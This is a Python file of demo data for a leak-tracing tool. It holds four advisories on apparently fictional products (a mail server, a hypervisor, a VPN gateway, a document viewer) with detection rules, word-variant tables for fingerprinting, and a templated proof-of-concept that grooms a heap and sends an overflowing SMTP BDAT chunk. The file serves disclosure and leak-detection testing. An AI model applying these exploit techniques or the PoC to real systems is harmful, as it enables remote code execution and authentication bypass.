"""Realistic advisory descriptions (Markdown) for the demo data and bench/leak_trace.py: written the way partner
advisories are written, with code blocks, commands, identifiers, CVE ids, numbers and URLs that must stay exact."""

import re

MAIL_SERVER = """## Technical details

The flaw lies in the `smtp-transport` component of Contoso Mail Server, which parses the `BDAT` chunking extension
(RFC 3030) before the sender is authenticated. When a client announces a chunk, the server reads the declared chunk
size from the command line and allocates a buffer for it, but it does not check that the size stays below the
message size limit configured for the connector. A second code path, used when the chunk is split across several
TCP segments, trusts a length field that the client controls and copies the remaining bytes into the buffer without
checking the bounds again. A remote, unauthenticated attacker can therefore trigger a heap-based buffer overflow by
sending a specially crafted sequence of `BDAT` commands, for example a first chunk of 16 bytes followed by a chunk
whose declared size wraps around when it is added to the bytes already received.

Successful exploitation allows the attacker to execute arbitrary code in the context of the transport service,
which runs as `NT AUTHORITY\\SYSTEM` by default. The overflow is reachable on every receive connector that accepts
anonymous mail from the internet, which is the default configuration of an edge server. We have confirmed that
the issue is exploitable on Contoso Mail Server 2019 CU14 and 2022 CU3 with all of the default mitigations enabled;
the heap layout is deterministic enough that a proof-of-concept reaches code execution in approximately 80 percent
of attempts, and a failed attempt only crashes the worker process, which the service restarts within seconds.
Because the worker is restarted automatically, an attacker can simply try again until the exploit succeeds.

Servers that only accept authenticated submission on port 587 are not exposed to the pre-authentication vector,
although an authenticated user can still reach the vulnerable code path. Contoso has not released an out-of-band
update; the fix ships with the cumulative update planned for the public release date.

## Detection guidance

- Look for `BDAT` commands whose declared size exceeds the connector's `MaxMessageSize`, or whose sum with the bytes
  already received is smaller than either operand (an integer wrap-around).
- The transport service writes event 4999 with the faulting module `smtptransport.dll` when an attempt fails; a
  burst of these events from the same worker is a strong indicator of exploitation attempts.
- Network sensors should normalise the SMTP dialogue before matching, since the chunk boundaries can be split across
  several TCP segments to evade a naive signature.

```
alert tcp any any -> $HOME_NET 25 (msg:"FWN BDAT chunk size wrap"; flow:to_server,established;
  content:"BDAT "; nocase; pcre:"/^BDAT\\s+\\d{10,}/Ri"; sid:9100101; rev:2;)
```

## Mitigation

Until the update is available, administrators can disable the chunking extension on internet-facing connectors
with the following command, which does not affect mail flow between servers that do not use it:

```powershell
Set-ReceiveConnector -Identity "EDGE01\\Default internet" -ChunkingEnabled $false
```

Disabling chunking is a workaround, not a fix: the vulnerable parser is still present, and an attacker who can
reach an internal connector can still trigger the flaw. We recommend that partners do not publish detection logic
that names the `BDAT` size check before the public release date, since doing so would reveal the root cause.
"""

HYPERVISOR = """## Technical details

Fabrikam Hypervisor implements its virtual switch in the host kernel module `fvswitch.ko`. Guests communicate with
it through a shared ring of descriptors, and each descriptor carries an offset and a length that point into a
guest-owned buffer. The host validates the offset and the length when it first reads a descriptor, but it reads
them again from shared memory when it later copies the packet into a host buffer. A malicious guest can change the
length between the two reads, a classic time-of-check to time-of-use race, and cause an out-of-bounds write in the
host kernel. Because the copy uses the second length while the destination buffer was sized with the first one, the
guest controls both the size of the overflow and the bytes written past the end of the buffer.

An attacker who controls a guest, for example a tenant of a hosting provider with administrative rights inside
their own virtual machine, can use this flaw to escape the guest and run code on the host with kernel privileges.
The exploit does not require any special configuration: the vulnerable path is used by every guest whose network
adapter is attached to a virtual switch, which is the case in almost all deployments. We have been able to win the
race reliably within a few thousand attempts on hosts with more than four physical cores, and an unsuccessful
attempt does not crash the host in most cases, which makes the attack hard to notice.

The issue affects Fabrikam Hypervisor 8.0 to 8.4 on all supported host operating systems. Version 7 is not affected,
since it copies each descriptor into host memory before validating it. The vendor has prepared a fix that reads
each descriptor once into a local structure; the fix is included in version 8.4.2, which will be released on the
public release date together with this advisory.

## Detection guidance

Host-based sensors cannot see the guest's memory writes, but the race leaves a characteristic pattern: the guest
posts thousands of descriptors for the same buffer within a short time, and many of them are rejected by the
validation step. On hosts with debug logging enabled, the module logs `fvswitch: descriptor length changed` at the
warning level when a later consistency check notices the change, although this check runs too late to prevent the
overflow.

```yaml
title: Fabrikam vSwitch descriptor race
logsource: {product: fabrikam, service: fvswitch}
detection:
  selection: {message|contains: "descriptor length changed"}
  condition: selection | count() by guest_id > 50
level: high
```

## Mitigation

Administrators who cannot install the update before the public release date should isolate untrusted guests on
hosts that do not run sensitive workloads. Attaching untrusted guests to an emulated network adapter instead of
the paravirtual one removes the vulnerable path, at the cost of approximately 40 percent of the network throughput.
There is no configuration option that disables the second read, and a host that is already compromised cannot be
trusted again until it has been reinstalled from known-good media.
"""

VPN_GATEWAY = """## Technical details

The `session-broker` service of Northgate VPN handles the single sign-on callback at `/remote/saml/acs`. After the
identity provider redirects the user back to the gateway, the broker verifies the signature of the SAML assertion
and then looks up the user named in the assertion. The verification routine, however, only checks the signature of
the first assertion element in the response, while the lookup uses the last one. An attacker can therefore take any
validly signed assertion, for example one obtained from a free trial account at the same identity provider, and
append a second, unsigned assertion that names an administrator of the gateway. The broker accepts the response and
issues a session cookie for the administrator, which allows the attacker to gain access to the management interface
without knowing any password and without a second factor, even when multi-factor authentication is enforced.

Once logged in as an administrator, the attacker can change the gateway's configuration, add local accounts, read
the stored credentials of the LDAP bind account and, through the diagnostic page, execute commands on the underlying
operating system as root. The management interface is often reachable from the internet, since many organisations
expose it on the same address as the VPN portal. Our scans of a sample of gateways showed that approximately one in
three of them expose the SAML endpoint, which is enabled as soon as single sign-on is configured.

The issue affects Northgate VPN 5.0 to 5.4. Gateways that do not use SAML single sign-on are not affected, because
the callback handler is not registered when the feature is disabled. Northgate will publish version 5.4.1 on the
public release date; the fixed broker rejects any response that contains more than one assertion and always uses
the assertion whose signature it has verified.

## Detection guidance

- Inspect POST requests to `/remote/saml/acs` and decode the `SAMLResponse` parameter: a response with two or more
  `Assertion` elements is never produced by a legitimate identity provider and should be treated as an attack.
- Review the gateway's audit log for administrator sessions that were created through single sign-on from an
  unusual source address, and for new local accounts created shortly afterwards.
- Rotate the LDAP bind password and the gateway's local administrator passwords if you find any sign of compromise,
  since the attacker can read both of them from the configuration.

```python
import base64, re

def suspicious_saml(body: str) -> bool:
    xml = base64.b64decode(body)
    return len(re.findall(rb"<(?:\\w+:)?Assertion[\\s>]", xml)) > 1
```

## Mitigation

Until the update is installed, customers should restrict access to the management interface to a dedicated network
and, where single sign-on is not essential, disable it temporarily. Disabling single sign-on removes the vulnerable
endpoint entirely; restricting the management interface does not, but it prevents the attacker from using the
forged session for anything other than a normal VPN connection.
"""

DOCUMENT_VIEWER = """## Technical details

Litware Document Viewer uses its own parser for embedded TrueType fonts, implemented in the `font-parser` library.
When it processes the `glyf` table, the parser computes the number of points of a composite glyph by adding the
point counts of its components. The sum is stored in a 16-bit integer, which wraps around when a document embeds a
font whose composite glyphs reference components with many points. The parser then allocates an array sized with the
wrapped value and fills it with the real number of points, which causes a heap-based buffer overflow whose length
and content are controlled by the author of the document.

An attacker who convinces a user to open a malicious document, for example by sending it as an attachment to an
e-mail, can exploit this flaw to run code with the privileges of the user. Because the preview pane of the mail
client uses the same library, it is enough in some configurations for the user to select the message; the user does
not have to open the attachment. The exploit we developed works reliably on Litware Document Viewer 12 with the
default settings, and it is not stopped by the sandbox of the preview pane, since the font is parsed before the
sandbox is initialized. We have not found any evidence that the flaw is being exploited in the wild.

The issue affects every version of Litware Document Viewer 12 up to and including 12.3. Earlier versions use a
different font engine and are not affected. The vendor's fix checks the sum against the maximum number of points
before it allocates the array, and rejects fonts whose composite glyphs nest more than 16 levels deep.

## Detection guidance

Documents that exploit this flaw must embed a font whose composite glyphs add up to more than 65535 points. The
attached rule looks for embedded `glyf` tables with composite glyphs whose components declare large point counts.
Security products that unpack documents should also normalise the embedded font before scanning it, since the font
can be compressed or split across several streams to hide it from a naive signature.

```
rule FWN_Litware_glyf_overflow {
  strings: $glyf = "glyf" $comp = { 00 20 ?? ?? FF FF }
  condition: $glyf and #comp > 200
}
```

## Mitigation

Until the update is installed, administrators can turn off the preview pane and block documents with embedded fonts
at the mail gateway. Neither measure removes the flaw, but together they ensure that a user has to open a document
from an untrusted source deliberately before the vulnerable code runs.
"""

SAMPLE_DOCUMENTS = [MAIL_SERVER, HYPERVISOR, VPN_GATEWAY, DOCUMENT_VIEWER]

# The same descriptions as an author who expects leaks writes them: variant points (docs/fingerprinting.md) at places
# where every alternative says the same thing. Used by the demo data and bench/leak_trace.py.
_AUTHOR_VARIANTS = {
    "MAIL_SERVER": [
        ("The flaw lies in", "The flaw {{= lies | resides | is located =}} in"),
        ("When a client announces a chunk", "When a client {{= announces | declares | advertises =}} a chunk"),
        ("and allocates a buffer for it", "and {{= allocates | reserves =}} a buffer for it"),
        ("stays below the message size limit", "stays {{= below | under | within =}} the message size limit"),
        ("A second code path, used when", "A {{= second | different | separate =}} code path, used when"),
        ("copies the remaining bytes into", "copies the {{= remaining | rest of the | outstanding =}} bytes into"),
        ("without checking the bounds again", "without {{= checking | validating | verifying =}} the bounds again"),
        (
            "a chunk whose declared size wraps around",
            "a chunk whose {{= declared | announced | stated =}} size wraps around",
        ),
        ("in the context of the transport service", "in the context of the transport {{= service | process =}}"),
        (
            "The overflow is reachable on every",
            "The overflow is {{= reachable | exposed =}} on {{= every | each | any =}}",
        ),
        (
            "which is the default configuration of an edge server",
            "which is the {{= default | standard | out-of-the-box =}} configuration of an edge server",
        ),
        (
            "the heap layout is deterministic enough",
            "the heap layout is {{= deterministic | predictable | stable =}} enough",
        ),
        (
            "a failed attempt only crashes the worker process",
            "a {{= failed | unsuccessful =}} attempt only crashes the worker process",
        ),
        (
            "which the service restarts within seconds",
            "which the service restarts within {{= seconds | a few seconds | moments =}}",
        ),
        ("an attacker can simply try again until", "an attacker can {{= simply | just =}} try again until"),
        ("Servers that only accept authenticated", "Servers that {{= only | exclusively =}} accept authenticated"),
        (
            "although an authenticated user can still reach",
            "although an authenticated user can still {{= reach | trigger | hit =}}",
        ),
        (
            "the fix ships with the cumulative update planned",
            "the fix ships with the cumulative update {{= planned | scheduled =}}",
        ),
        (
            "a burst of these events from the same worker",
            "a {{= burst | rapid series | cluster =}} of these events from the same worker",
        ),
        (
            "is a strong indicator of exploitation attempts",
            "is a {{= strong | clear | reliable =}} indicator of exploitation attempts",
        ),
        ("to evade a naive signature", "to evade a {{= naive | simple | basic =}} signature"),
        (
            "which does not affect mail flow between servers",
            "which does not {{= affect | disrupt | change =}} mail flow between servers",
        ),
        ("the vulnerable parser is still present", "the vulnerable parser is still {{= present | in place | there =}}"),
        (
            "since doing so would reveal the root cause",
            "since doing so would {{= reveal | disclose | expose | give away =}} the root cause",
        ),
    ],
    "HYPERVISOR": [
        ("implements its virtual switch in", "{{= implements | provides =}} its virtual switch in"),
        ("Guests communicate with\nit through", "Guests {{= communicate | interact =}} with\nit through"),
        ("each descriptor carries an offset", "each descriptor {{= carries | holds | contains =}} an offset"),
        ("when it first reads a descriptor", "when it {{= first | initially =}} reads a descriptor"),
        ("when it later copies the packet", "when it {{= later | subsequently | afterwards =}} copies the packet"),
        (
            "A malicious guest can change the\nlength",
            "A {{= malicious | hostile | rogue =}} guest can change the\nlength",
        ),
        ("a classic time-of-check", "a {{= classic | textbook | typical =}} time-of-check"),
        ("the guest controls both the size", "the guest {{= controls | decides | chooses =}} both the size"),
        ("the bytes written past the end", "the bytes written {{= past | beyond =}} the end"),
        (
            "can use this flaw to escape the guest",
            "can use this flaw to {{= escape | break out of | leave =}} the guest",
        ),
        (
            "The exploit does not require any special configuration",
            "The exploit does not require any {{= special | particular | specific =}} configuration",
        ),
        (
            "which is the case in almost all deployments",
            "which is the case in almost all {{= deployments | installations | environments =}}",
        ),
        (
            "win the\nrace reliably within a few thousand",
            "win the\nrace {{= reliably | consistently =}} within a few thousand",
        ),
        ("which makes the attack hard to notice", "which makes the attack {{= hard | difficult | tricky =}} to notice"),
        ("The vendor has prepared a fix", "The vendor has {{= prepared | developed | produced =}} a fix"),
        ("into a local structure", "into a local {{= structure | copy | buffer =}}"),
        (
            "but the race leaves a characteristic pattern",
            "but the race leaves a {{= characteristic | distinctive | recognisable =}} pattern",
        ),
        ("within a short time", "within a short {{= time | period | interval =}}"),
        ("although this check runs too late", "although this check {{= runs | happens | occurs =}} too late"),
        ("should isolate untrusted guests", "should {{= isolate | separate | segregate =}} untrusted guests"),
        ("that do not run sensitive workloads", "that do not run {{= sensitive | critical | important =}} workloads"),
        (
            "There is no configuration option",
            "There is no {{= configuration option | setting | configuration setting =}}",
        ),
        ("cannot be\ntrusted again until", "cannot be\ntrusted {{= again | any longer =}} until"),
    ],
    "VPN_GATEWAY": [
        ("handles the single sign-on callback", "{{= handles | processes | serves =}} the single sign-on callback"),
        ("the broker verifies the signature", "the broker {{= verifies | checks | validates =}} the signature"),
        ("and then looks up the user", "and then {{= looks up | retrieves | fetches =}} the user"),
        (
            "only checks the signature of\nthe first",
            "only {{= checks | verifies | validates =}} the signature of\nthe first",
        ),
        ("while the lookup uses the last one", "{{= while | whereas =}} the lookup uses the last one"),
        ("take any\nvalidly signed assertion", "take any\n{{= validly | correctly | properly =}} signed assertion"),
        ("one obtained from a free trial account", "one obtained from a {{= free trial | trial | free =}} account"),
        ("The broker accepts the response", "The broker {{= accepts | takes =}} the response"),
        ("without knowing any password", "without {{= knowing | needing | having =}} any password"),
        ("change the gateway's configuration", "{{= change | alter | modify =}} the gateway's configuration"),
        (
            "The management interface is often reachable",
            "The management interface is {{= often | frequently | commonly =}} reachable",
        ),
        ("since many organisations\nexpose it", "since many {{= organisations | customers | operators =}}\nexpose it"),
        ("Our scans of a sample of gateways", "Our scans of a {{= sample | subset | selection =}} of gateways"),
        ("which is enabled as soon as", "which is {{= enabled | switched on | active =}} as soon as"),
        (
            "the callback handler is not registered",
            "the callback handler is not {{= registered | installed | loaded =}}",
        ),
        ("the fixed broker rejects any response", "the fixed broker {{= rejects | refuses | discards =}} any response"),
        (
            "is never produced by a legitimate identity provider",
            "is never {{= produced | generated | issued =}} by a legitimate identity provider",
        ),
        ("from an\nunusual source address", "from an\n{{= unusual | unexpected | unfamiliar =}} source address"),
        ("created shortly afterwards", "created {{= shortly | soon | not long =}} afterwards"),
        ("to a dedicated network", "to a {{= dedicated | separate | isolated =}} network"),
        (
            "where single sign-on is not essential",
            "where single sign-on is not {{= essential | required | critical =}}",
        ),
        (
            "for anything other than a normal VPN connection",
            "for anything other than a {{= normal | regular | ordinary =}} VPN connection",
        ),
    ],
    "DOCUMENT_VIEWER": [
        ("uses its own parser for embedded", "uses its own {{= parser | parsing code =}} for embedded"),
        ("When it processes the `glyf` table", "When it {{= processes | parses | reads =}} the `glyf` table"),
        (
            "which wraps around when a document embeds",
            "which wraps around when a document {{= embeds | contains | includes =}}",
        ),
        (
            "reference components with many points",
            "reference components with {{= many | a large number of | numerous =}} points",
        ),
        ("fills it with the real number of points", "fills it with the {{= real | actual | true =}} number of points"),
        (
            "are controlled by the author of the document",
            "are controlled by the {{= author | creator =}} of the document",
        ),
        (
            "who convinces a user to open",
            "who {{= convinces a user to open | persuades a user to open | tricks a user into opening =}}",
        ),
        ("by sending it as an attachment", "by {{= sending | mailing | delivering =}} it as an attachment"),
        ("it is enough in some configurations", "it is {{= enough | sufficient =}} in some configurations"),
        ("for the user to select the message", "for the user to {{= select | click on | highlight =}} the message"),
        ("The exploit we developed works reliably", "The exploit we {{= developed | wrote | built =}} works reliably"),
        ("We have not found any evidence", "We have not {{= found | seen | observed =}} any evidence"),
        (
            "Earlier versions use a\ndifferent font engine",
            "{{= Earlier | Older | Previous =}} versions use a\ndifferent font engine",
        ),
        ("The vendor's fix checks the sum", "The vendor's fix {{= checks | compares | tests =}} the sum"),
        ("and rejects fonts whose composite glyphs", "and {{= rejects | refuses =}} fonts whose composite glyphs"),
        (
            "The\nattached rule looks for embedded",
            "The\nattached rule {{= looks for | searches for | matches =}} embedded",
        ),
        ("Security products that unpack documents", "Security products that {{= unpack | extract | open =}} documents"),
        ("since the font\ncan be compressed", "since the font\ncan be {{= compressed | packed | encoded =}}"),
        ("to hide it from a naive signature", "to hide it from a {{= naive | simple | basic =}} signature"),
        (
            "administrators can turn off the preview pane",
            "administrators can {{= turn off | switch off | hide =}} the preview pane",
        ),
        ("Neither measure removes the flaw", "Neither measure {{= removes | eliminates | fixes =}} the flaw"),
        (
            "from an untrusted source deliberately",
            "from an untrusted source {{= deliberately | on purpose | intentionally =}}",
        ),
    ],
}


def _authored(text: str, variants: list[tuple[str, str]]) -> str:
    for plain, authored in variants:
        pattern = re.compile(r"\s+".join(re.escape(word) for word in plain.split()))
        if len(pattern.findall(text)) != 1:
            raise ValueError(f"author variant anchor must occur exactly once: {plain!r}")
        text = pattern.sub(authored.replace("\\", "\\\\"), text)
    return text


AUTHORED_DOCUMENTS = [
    _authored(text, _AUTHOR_VARIANTS[name])
    for name, text in (
        ("MAIL_SERVER", MAIL_SERVER),
        ("HYPERVISOR", HYPERVISOR),
        ("VPN_GATEWAY", VPN_GATEWAY),
        ("DOCUMENT_VIEWER", DOCUMENT_VIEWER),
    )
]

# A proof of concept as an author who expects leaks writes it: variant points in the code itself (variable names,
# constants with several valid values, filler bytes), so that a copy with its comments stripped and reformatted, or
# the bytes it sends, name the copy it came from. Used by the demo data and bench/leak_trace.py.
PROOF_OF_CONCEPT = '''#!/usr/bin/env python3
# Proof of concept for the BDAT chunk size wrap-around: heap grooming, then the wrapping chunk.
# Usage: poc.py HOST [PORT]
import socket
import struct
import sys
import time

{{= TARGET | HOST | SERVER =}} = sys.argv[1] if len(sys.argv) > 1 else "127.0.0.1"
{{= PORT | SMTP_PORT | TARGET_PORT =}} = int(sys.argv[2]) if len(sys.argv) > 2 else 25
GROOMING_CHUNKS = {{= 24..55 =}}  # chunks sent first to shape the heap
CHUNK_SIZE = {{= 0x100..0x11f =}}
FILLER = (b"{{=filler-1: A..Z =}}{{=filler-2: A..Z =}}" * CHUNK_SIZE)[:CHUNK_SIZE]
MARKER = b"\\xde\\xad{{=marker: \\x00..\\xff =}}\\xbe\\xef"
SESSION_TAG = {{= 0x7a3c0000..0x7a3c00ff =}}
WRAP = {{= 0xfffffff0..0xffffffff =}}
PAUSE = {{= 0.05 | 0.06 | 0.07 | 0.08 | 0.09 | 0.10 | 0.11 | 0.12 =}}


def {{= read_reply | receive_reply | get_reply =}}({{= connection | sock | conn =}}):
    """One SMTP reply line, without its line ending."""
    data = b""
    while not data.endswith(b"\\r\\n"):
        part = {{= connection | sock | conn =}}.recv({{= 512 | 1024 | 2048 | 4096 =}})
        if not part:
            break
        data += part
    return data.strip()


def {{= build_chunk | make_chunk | craft_chunk =}}({{= size | length | count =}}, body):
    """A BDAT command announcing `size` bytes, followed by the body."""
    header = b"BDAT " + str({{= size | length | count =}}).encode() + b"\\r\\n"
    return header + body


def {{= groom | shape_heap | prepare_heap =}}({{= connection | sock | conn =}}):
    # Fill the transport worker's heap with chunks of one size, so that the next allocation lands after them.
    for _ in range(GROOMING_CHUNKS):
        {{= connection | sock | conn =}}.sendall({{= build_chunk | make_chunk | craft_chunk =}}(CHUNK_SIZE, FILLER))
        time.sleep(PAUSE)


def {{= wrapping_chunk | overflow_chunk | trigger_chunk =}}():
    """The chunk whose declared size wraps around once added to the bytes already received."""
    body = FILLER + MARKER + struct.pack("<II", WRAP, SESSION_TAG)
    return {{= build_chunk | make_chunk | craft_chunk =}}(WRAP, body)


def main():
    address = ({{= TARGET | HOST | SERVER =}}, {{= PORT | SMTP_PORT | TARGET_PORT =}})
    with socket.create_connection(address, timeout={{= 5..20 =}}) as {{= connection | sock | conn =}}:
        print({{= read_reply | receive_reply | get_reply =}}({{= connection | sock | conn =}}))
        {{= connection | sock | conn =}}.sendall(b"EHLO {{= poc | test | probe | check =}}.example\\r\\n")
        print({{= read_reply | receive_reply | get_reply =}}({{= connection | sock | conn =}}))
        sender = b"MAIL FROM:<{{= a..z =}}@example.test>\\r\\n"
        {{= connection | sock | conn =}}.sendall(sender + b"RCPT TO:<postmaster>\\r\\n")
        {{= groom | shape_heap | prepare_heap =}}({{= connection | sock | conn =}})
        {{= connection | sock | conn =}}.sendall({{= wrapping_chunk | overflow_chunk | trigger_chunk =}}())
        print({{= read_reply | receive_reply | get_reply =}}({{= connection | sock | conn =}}))


def payload():
    """The bytes main() sends after the greeting (for testing a sensor without a server)."""
    envelope = b"EHLO {{= poc | test | probe | check =}}.example\\r\\n"
    envelope += b"MAIL FROM:<{{= a..z =}}@example.test>\\r\\nRCPT TO:<postmaster>\\r\\n"
    chunks = [{{= build_chunk | make_chunk | craft_chunk =}}(CHUNK_SIZE, FILLER) for _ in range(GROOMING_CHUNKS)]
    return envelope + b"".join(chunks) + {{= wrapping_chunk | overflow_chunk | trigger_chunk =}}()


if __name__ == "__main__":
    main()
'''
